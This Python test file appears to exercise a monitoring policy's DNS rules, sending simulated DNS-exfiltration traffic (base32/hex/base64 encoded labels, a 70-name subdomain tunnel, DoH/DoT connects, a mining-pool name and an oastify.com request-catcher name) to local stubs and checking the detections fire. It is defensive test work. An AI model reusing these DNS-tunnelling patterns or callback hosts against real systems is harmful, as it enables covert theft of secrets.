#!/usr/bin/env python3
"""DNS exfiltration and DNS over TLS/HTTPS under the default policy, end to
end (TAP; needs root and BTF).

A fake resolver on 127.53.X.Y:53 (tests/bpf/test_hooks.py's DnsStub), which
no resolv.conf lists, answers a job's queries; a job script (a Python file,
one process) sends:

  exfil    names with encoded labels (base32, a 63-character hex chunk,
           base64-like), 70 distinct names under one domain, and an ordinary
           name, all to the fake resolver; then resolves dns.google there
           (answer 127.0.0.9) and connects to 127.0.0.9:443, and connects
           to 127.0.0.1:853. Expected: dns-encoded-label on exactly the
           encoded queries, dns-many-subdomains once (on the 64th distinct
           name, subdomains 64), dns-to-unconfigured-resolver on every
           query, dns-over-https-or-tls on both connects, which carry
           dns_over "https" and "tls"; no other rule.
  ordinary names real builds ask (registry.npmjs.org, deb.debian.org, an
           SRV name, CDN and storage host names) to the host's configured
           resolver (the first nameserver of /etc/resolv.conf; the C
           library's 127.0.0.1 when there is none), on an unconnected socket
           and on a connected one (glibc's way: the query's server is the
           socket's peer), and a plain TCP connect. Expected: every query
           resolver "configured", no dns_over, and no verdict at all.
"""

import os
import socket
import struct
import sys

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import bwtap as T  # noqa: E402
import bwpolicy as P  # noqa: E402
import test_hooks as H  # noqa: E402

S = {}
DNS_RULES = ("dns-encoded-label", "dns-many-subdomains", "dns-to-unconfigured-resolver",
             "dns-over-https-or-tls", "crypto-miner-pool-dns", "exfiltration-service-dns")
POOL = "gulf.moneroocean.stream"  # a renamed miner finding its pool
CATCHER = "x7k2m9q.oastify.com"   # a dependency-confusion payload calling home
ENCODED = [
    "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwe3dfmztwq2lknnwg.x.exfil.test",
    "rt6s7awcbzqmpy7h3wmlv4b3az437qucodgi2apq.exfil.test",
    "4a6f686e20446f652073656372657420746f6b656e3a206768705f61626364.exfil.test",
    "z2hwx2fiy2rlzmdoawprbg1ub3bxcnn0dxz3egl6mtizndu2.a.exfil.test",
]
TUNNEL = ["c%d.tunnel.test" % i for i in range(70)]
ORDINARY = ["registry.npmjs.org", "deb.debian.org", "_http._tcp.deb.debian.org",
            "d2xyz1abc.cloudfront.net", "objects.githubusercontent.com",
            "my-build-artifacts-prod.s3.amazonaws.com", "pipelinesghubeus6.actions."
            "githubusercontent.com", "productionresultssa19.blob.core.windows.net"]

# The job's program: one process, so every record has the same identity.
SCRIPT = r'''
import socket, struct, sys

def query(name, qid):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", 1, 1)

def ask(sock, name, qid, to=None):
    if to:
        sock.sendto(query(name, qid), to)
    else:
        sock.send(query(name, qid))
    try:
        sock.recvfrom(2048)  # with an address: the hook knows it came from port 53
    except OSError:
        pass

def connect(addr, port):
    c = socket.socket()
    c.settimeout(1)
    try:
        c.connect((addr, port))
    except OSError:
        pass
    c.close()

mode, server, names = sys.argv[1], sys.argv[2], sys.argv[3:]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.3)
for i, n in enumerate(names):
    ask(s, n, i + 1, (server, 53))
if mode == "exfil":
    ask(s, "dns.google", 999, (server, 53))
    connect("127.0.0.9", 443)
    connect("127.0.0.1", 853)
else:
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    c.settimeout(0.3)
    c.connect((server, 53))
    for i, n in enumerate(names):
        ask(c, n, 500 + i)
    connect("127.0.0.1", int(mode))
'''


def sc():
    return S["sc"]


def job_script():
    return sc().write(SCRIPT, "job.py")


def listener(addr, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind((addr, port))
        s.listen(8)
    except OSError:
        s.close()
        print("# %s:%d is taken: the connect there is refused or served by "
              "someone else, and still recorded" % (addr, port), flush=True)
        return None
    return s


def queries(job):
    return [r for r in job.records if r.get("type") == "dns" and r.get("direction") == "query"]


def host_resolver():
    try:
        with open("/etc/resolv.conf") as f:
            for line in f:
                w = line.split()
                if len(w) >= 2 and w[0] == "nameserver" and ":" not in w[1]:
                    return w[1]
    except OSError:
        pass
    return "127.0.0.1"


def t_exfil():
    stub = H.DnsStub({("dns.google", 1): ["127.0.0.9"]})
    socks = [listener("127.0.0.9", 443), listener("127.0.0.1", 853)]
    try:
        job = P.bw_run(sc(), None, ["python3", job_script(), "exfil", stub.addr4] +
                       ENCODED + TUNNEL + ["registry.npmjs.org", POOL, CATCHER], name="dnsx")
    finally:
        stub.close()
        for s in socks:
            if s:
                s.close()
    c = T.Checker()
    H.check_run(c, job)
    qs = queries(job)
    c.eq(sorted(q.get("qname") for q in qs),
         sorted(ENCODED + TUNNEL + ["registry.npmjs.org", POOL, CATCHER, "dns.google"]),
         "query names recorded")
    c.check(len(stub.seen()) >= len(qs), "the stub got %d queries" % len(stub.seen()))
    for q in qs:
        c.eq(q.get("resolver"), "other", "%s: resolver of a query to the fake resolver"
             % q.get("qname"))
    H.check_verdicts(c, job, "dns-encoded-label", "dns",
                     [q for q in qs if q.get("qname") in ENCODED])
    H.check_verdicts(c, job, "dns-many-subdomains", "dns",
                     [q for q in qs if q.get("qname") == "c63.tunnel.test"])
    c64 = [q for q in qs if q.get("qname") == "c63.tunnel.test"]
    if c64:
        c.eq(c64[0].get("subdomains"), 64, "subdomains of the 64th name under tunnel.test")
    H.check_verdicts(c, job, "dns-to-unconfigured-resolver", "dns", qs)
    H.check_verdicts(c, job, "crypto-miner-pool-dns", "dns",
                     [q for q in qs if q.get("qname") == POOL])
    H.check_verdicts(c, job, "exfiltration-service-dns", "dns",
                     [q for q in qs if q.get("qname") == CATCHER])
    cs = [r for r in job.records if r.get("type") == "connect" and r.get("port") in (443, 853)]
    got = sorted((r.get("address"), r.get("port"), r.get("dns_name"), r.get("dns_over"))
                 for r in cs)
    c.eq(got, [("127.0.0.1", 853, None, "tls"), ("127.0.0.9", 443, "dns.google", "https")],
         "connects to DoT and DoH: (address, port, dns_name, dns_over)")
    H.check_verdicts(c, job, "dns-over-https-or-tls", "connect", cs)
    # The catcher's name is on the job's own command line as well: the
    # exec rule on request catchers' names in arguments judges that exec.
    url = [v for v in job.verdicts if v.get("rule") == "exfiltration-service-url"]
    c.eq([(v.get("on"), CATCHER in (v.get("argv") or [])) for v in url], [("exec", True)],
         "exfiltration-service-url: the job's exec, whose argv names the catcher")
    other = sorted({v.get("rule") for v in job.verdicts} - set(DNS_RULES) -
                   {"exfiltration-service-url"})
    c.eq(other, [], "other rules that fired")
    c.done()


def t_ordinary():
    server = host_resolver()
    lst = listener("127.0.0.1", 0)
    port = lst.getsockname()[1]
    try:
        job = P.bw_run(sc(), None, ["python3", job_script(), str(port), server] + ORDINARY,
                       name="dnsx")
    finally:
        lst.close()
    c = T.Checker()
    H.check_run(c, job)
    qs = queries(job)
    c.eq(sorted(q.get("qname") for q in qs), sorted(ORDINARY * 2),
         "queries recorded (unconnected and connected socket, to %s)" % server)
    connected = [q for q in qs if q.get("server") == "0.0.0.0"]
    c.eq(len(connected), len(ORDINARY), "queries on the connected socket (server 0.0.0.0)")
    for q in qs:
        c.eq(q.get("resolver"), "configured", "%s to %s: resolver" % (q.get("qname"),
                                                                       q.get("server")))
        c.check(isinstance(q.get("label_length"), int) and q.get("label_length") > 0,
                "%s: label_length %r" % (q.get("qname"), q.get("label_length")))
    plain = [r for r in job.records if r.get("type") == "connect" and r.get("port") == port]
    if c.eq(len(plain), 1, "the plain TCP connect"):
        c.eq(plain[0].get("dns_over", "<absent>"), None, "dns_over of a plain connect")
    c.eq([(v.get("rule"), H.short(H.judged(job, v) or {}).get("qname")) for v in job.verdicts],
         [], "verdicts on ordinary names")
    c.done()


TESTS = [
    ("encoded labels, many subdomains, a resolver outside resolv.conf, DoH by name and "
     "DoT by port, a mining pool's name, a request catcher's: the default's DNS rules fire on "
     "exactly those",
     t_exfil),
    ("ordinary build names to the configured resolver (sendto and a connected socket) "
     "and a plain connect: resolver configured, no dns_over, no verdict", t_ordinary),
]


def main():
    skip = T.skip_reason()
    if not skip:
        H.S["sc"] = S["sc"] = P.Scratch("bw-dnsx-")
    try:
        return T.tap_run(TESTS, skip)
    finally:
        if "sc" in S:
            S["sc"].cleanup()


if __name__ == "__main__":
    T.main_guard(main)
